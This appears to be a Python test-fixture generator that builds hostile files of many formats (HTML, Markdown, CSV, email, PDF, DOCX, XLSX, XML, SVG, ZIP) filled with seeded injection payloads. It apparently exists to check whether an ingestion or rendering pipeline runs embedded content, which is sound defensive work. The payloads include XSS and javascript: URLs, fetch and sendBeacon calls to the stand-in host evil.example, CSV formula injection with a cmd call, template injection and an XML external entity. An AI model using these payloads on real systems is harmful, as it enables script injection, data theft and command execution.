"""Documents whose every part wants to run in the reader's browser, made from seeds."""

from __future__ import annotations

import csv
import io
import json
import random
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from email.message import EmailMessage
from html import escape
from pathlib import Path
from xml.sax.saxutils import quoteattr

import docx
import openpyxl
from reportlab.pdfgen.canvas import Canvas

ELSEWHERE = "evil.example"
PER_DOCUMENT = 12
LONGEST_NAME = 120

_DEEDS = (
    "window.canary='{id}'", "alert('{id}')", "fetch('//evil.example/{id}')", "location='//evil.example/{id}'",
    "document.title='{id}'", "navigator.sendBeacon('//evil.example/{id}')", "open('//evil.example/{id}')",
    "document.body.remove()", "import('//evil.example/{id}')", "localStorage.canary='{id}'",
)  # fmt: skip
_PAYLOADS = (
    "<script>{deed}</script>",
    "<img src=x onerror={deed}>",
    "<svg onload={deed}>",
    "<svg><script>{deed}</script></svg>",
    "<iframe srcdoc='<script>{deed}</script>'>",
    "<details open ontoggle={deed}>x</details>",
    "<video><source onerror={deed}>",
    "<body onload={deed}>",
    "<input autofocus onfocus={deed}>",
    '<a href="javascript:{deed}">{id}</a>',
    "[{id}](javascript:{deed})",
    "![{id}](//evil.example/{id}.png)",
    "[{id}]: javascript:{deed}",
    "<//evil.example/{id}>",
    "<style>@import url(//evil.example/{id})</style>",
    "<p style=background:url(//evil.example/{id})>{id}",
    "<link rel=stylesheet href=//evil.example/{id}>",
    "<base href=//evil.example/{id}/>",
    "<object data=//evil.example/{id}>",
    '<meta http-equiv=refresh content="0;url=//evil.example/{id}">',
    "<form action=//evil.example/{id}><button autofocus>",
    '"><script>{deed}</script>',
    "'-{deed}-'",
    '" onmouseover={deed} x="',
    "</textarea></title></script><script>{deed}</script>",
    "<!--><script>{deed}</script>-->",
    "]]><script>{deed}</script>",
    "<math><mglyph><style></math><img src onerror={deed}>",
    '<noscript><p title="</noscript><img src=x onerror={deed}>">',
    "<template><script>{deed}</script></template>",
    "javascript:{deed}",
    "data:text/html,<script>{deed}</script>",
    "\\x3cscript\\x3e{deed}\\x3c/script\\x3e",
    "&lt;script&gt;{deed}&lt;/script&gt;",
    "&#60;script&#62;{deed}&#60;/script&#62;",
    "%3Cscript%3E{deed}%3C/script%3E",
    "{{{{constructor.constructor('{deed}')()}}}} {id}",
    "${{{deed}}} {id}",
    "<%= {deed} %> {id}",
    "#{{{deed}}} {id}",
    '=HYPERLINK("//evil.example/{id}")',
    "=cmd|' /C {id}'!A0",
    "@SUM({id})",
    "__proto__ {id}",
    "\u202e<script>{deed}</script>\u202c",
    "<scr\u200bipt>{deed}</scr\u200bipt>",
    "\u2028{deed}\u2029 {id}",
    "\u2066{id}\u2069\U000e0041",
    "<script src=//evil.example/{id}></script>",
    "<script>{deed}" + "/" * 3000,
    "<x " + "y=1 " * 500 + "onclick={deed}>{id}",
)


@dataclass(frozen=True)
class Payload:
    """What is put into documents; its ``id`` is in it wherever it is cut."""

    id: str
    text: str


def payload(seed: int) -> Payload:
    """The payload of a seed: one of the kinds, with a deed to do, in one of several spellings."""
    chance = random.Random(seed)
    name = f"k{seed}k"
    pattern = _PAYLOADS[seed % len(_PAYLOADS)]
    text = pattern.format(deed=chance.choice(_DEEDS).format(id=name), id=name)
    if name not in text:
        text = f"{text} {name}"
    return Payload(name, chance.choice(_SPELLINGS)(text, chance))


def _plain(text: str, _: random.Random) -> str:
    return text


def _mixed_case(text: str, chance: random.Random) -> str:
    tag = text[:12]
    return "".join(chance.choice((str.upper, str.lower))(c) if c != "k" else c for c in tag) + text[12:]


def _spaced(text: str, chance: random.Random) -> str:
    return text.replace("=", chance.choice(("=", "\t=", "= ")), 1)


def _wrapped(text: str, chance: random.Random) -> str:
    around = chance.choice((("*", "*"), ("`", "`"), ("<b>", "</b>"), ('"', '"'), ("<!-- ", " -->")))
    return text.join(around)


_SPELLINGS = (_plain, _plain, _mixed_case, _spaced, _wrapped)


@dataclass(frozen=True)
class HostileDocument:
    """A file to take in; ``word`` is in no other one."""

    name: str
    content: bytes
    word: str
    payloads: tuple[Payload, ...]

    @property
    def kind(self) -> str:
        return Path(self.name).suffix


def documents(cases: int) -> list[HostileDocument]:
    """Documents of all kinds in turn that hold the payloads of the seeds below ``cases``."""
    count = max(len(_KINDS), -(-cases // PER_DOCUMENT))
    made = []
    for number in range(count):
        payloads = tuple(payload(seed % cases) for seed in range(number, max(cases, number + 1), count))
        kind = list(_KINDS)[number % len(_KINDS)]
        word = f"opal{number}"
        first = payloads[0].text.replace("/", "∕").replace("\x00", "")
        stem = first.encode()[:LONGEST_NAME].decode(errors="ignore").strip()
        made.append(HostileDocument(f"{number} {stem}{kind}", _KINDS[kind](word, payloads), word, payloads))
    return made


def said(word: str) -> str:
    """A sentence that answers what the word of a document's stone is."""
    return f"The code of the {word} stone is kept by the {word} keeper."


def _markdown(word: str, payloads: Sequence[Payload]) -> bytes:
    title, *rest = [one.text for one in payloads]
    front = f"---\ntitle: {json.dumps(title)}\nauthor: {json.dumps(rest[0])}\ntags: [{word}]\n---\n" if rest else ""
    body = [
        f"# {title}",
        *(f"## {one}\n\n{said(word)} {one}\n\n- {one}\n\n| a | b |\n|---|---|\n| {one} | x |" for one in rest),
    ]
    return (front + "\n\n".join(body)).encode("utf-8", "replace")


def _html(word: str, payloads: Sequence[Payload]) -> bytes:
    """Each payload twice: as markup that would run, and as text that readers see."""
    title, *rest = [one.text for one in payloads]
    parts = [
        f"<h2>{escape(one)}</h2><p>{said(word)} {escape(one)}</p><a href={quoteattr(one)}>link</a>{one}" for one in rest
    ]
    head = f"<title>{escape(title)}</title><meta name=author content={quoteattr(title)}>"
    return (
        f"<!doctype html><html><head>{head}</head><body><h1>{escape(title)}</h1>{''.join(parts)}</body></html>".encode()
    )


def _text(word: str, payloads: Sequence[Payload]) -> bytes:
    return "\n\n".join(f"{said(word)} {one.text}" for one in payloads).encode()


def _csv(word: str, payloads: Sequence[Payload]) -> bytes:
    out = io.StringIO()
    rows = [[f"{word} code", payloads[0].text], *([f"{said(word)}", one.text] for one in payloads)]
    csv.writer(out).writerows(rows)
    return out.getvalue().encode()


def _email(word: str, payloads: Sequence[Payload]) -> bytes:
    message = EmailMessage()
    flat = [" ".join(one.text.split()) for one in payloads]
    message["Subject"] = flat[0][:200]
    message["From"] = f'"{flat[-1][:60].translate({34: None, 92: None})}" <a@example.org>'
    message["To"] = "b@example.org"
    message.set_content("plain")
    message.add_alternative(_html(word, payloads).decode(), subtype="html")
    for number, one in enumerate(flat[:2]):
        name = f"{one[:60]}.txt".replace("/", "∕")
        message.add_attachment(f"{said(word)} part {number}.".encode(), "text", "plain", filename=name)
    return message.as_bytes()


def _pdf(word: str, payloads: Sequence[Payload]) -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out, invariant=True)
    canvas.setTitle(payloads[0].text)
    canvas.setAuthor(payloads[-1].text)
    for at, one in enumerate(payloads):
        text = one.text.encode("latin-1", "ignore").decode("latin-1")[:90]
        canvas.drawString(40, 780 - 40 * at, f"{said(word)}")
        canvas.drawString(40, 765 - 40 * at, text)
        canvas.linkURL(f"javascript:app.alert('{one.id}')", (40, 760 - 40 * at, 300, 790 - 40 * at))
    canvas.save()
    return out.getvalue()


def _docx(word: str, payloads: Sequence[Payload]) -> bytes:
    document = docx.Document()
    title, *rest = [_xml_text(one.text) for one in payloads]
    document.core_properties.title, document.core_properties.author = title[:250], title[:250]
    document.add_heading(title)
    for one in rest:
        document.add_heading(one, 2)
        document.add_paragraph(f"{said(word)} {one}")
        document.add_table(1, 2).rows[0].cells[0].text = one
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _xlsx(word: str, payloads: Sequence[Payload]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    book.properties.title = _xml_text(payloads[0].text)[:250]
    sheet.title = "".join(c for c in payloads[0].text if c not in "[]:*?/\\'")[:25] or "x"
    sheet.append(["said", "value"])
    for one in payloads:
        sheet.append([said(word), _xml_text(one.text)])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _xml(word: str, payloads: Sequence[Payload]) -> bytes:
    rows = "".join(f"<p x={quoteattr(one.text)}>{said(word)} {escape(one.text)}</p>" for one in payloads)
    entity = f'<!DOCTYPE r [<!ENTITY e SYSTEM "http://{ELSEWHERE}/e">]>'
    style = f'<?xml-stylesheet href="http://{ELSEWHERE}/s.xsl" type="text/xsl"?>'
    return f'<?xml version="1.0"?>{style}{entity}<r>{_xml_text(rows)}&e;</r>'.encode()


def _svg(word: str, payloads: Sequence[Payload]) -> bytes:
    rows = "".join(
        f"<script>{escape(one.text)}</script><text>{said(word)} {escape(one.text)}</text>" for one in payloads
    )
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="window.canary=1">{_xml_text(rows)}</svg>'.encode()


def _zip(word: str, payloads: Sequence[Payload]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number, one in enumerate(payloads):
            stem = one.text.replace("/", "∕").encode()[:LONGEST_NAME].decode(errors="ignore")
            archive.writestr(f"{number} {stem}.txt", f"{said(word)} {one.text}")
    return out.getvalue()


def _broken(word: str, payloads: Sequence[Payload]) -> bytes:
    return b"%PDF-1.7\n" + payloads[0].text.encode()


def _xml_text(text: str) -> str:
    """Without what XML can't hold."""
    return "".join(c for c in text if c >= " " or c in "\t\n")


_KINDS: dict[str, Callable[[str, Sequence[Payload]], bytes]] = {
    ".md": _markdown,
    ".html": _html,
    ".txt": _text,
    ".csv": _csv,
    ".eml": _email,
    ".pdf": _pdf,
    ".docx": _docx,
    ".xlsx": _xlsx,
    ".xml": _xml,
    ".svg": _svg,
    ".zip": _zip,
    ".broken.pdf": _broken,
}
